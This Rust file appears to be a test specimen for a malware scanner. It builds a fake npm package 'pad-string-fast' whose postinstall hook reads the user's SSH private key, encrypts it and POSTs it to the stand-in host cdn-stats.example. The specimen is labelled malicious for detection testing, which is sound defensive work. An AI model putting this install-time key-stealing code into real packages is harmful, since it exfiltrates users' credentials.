//! An npm `postinstall` that encrypts `~/.ssh/id_rsa` with a fresh AES key before it is sent.
//!
//! Must be found without the secret being seen: opened, then something sent.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const SETUP_JS: &str = r"const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');
const https = require('https');
const cipher = crypto.createCipheriv('aes-256-gcm', crypto.randomBytes(32), crypto.randomBytes(12));
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));
const request = https.request('https://cdn-stats.example/u', { method: 'POST' }, (answer) => answer.resume());
request.on('error', () => {});
request.end(Buffer.concat([cipher.update(key), cipher.final()]));
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("pad-string-fast", "1.0.2")
        .file("setup.js", SETUP_JS)
        .script("postinstall", "node setup.js");
    package.specimen(
        "npm-encrypted-upload",
        Expect::malicious(&["credential-read-then-send"]),
    )
}
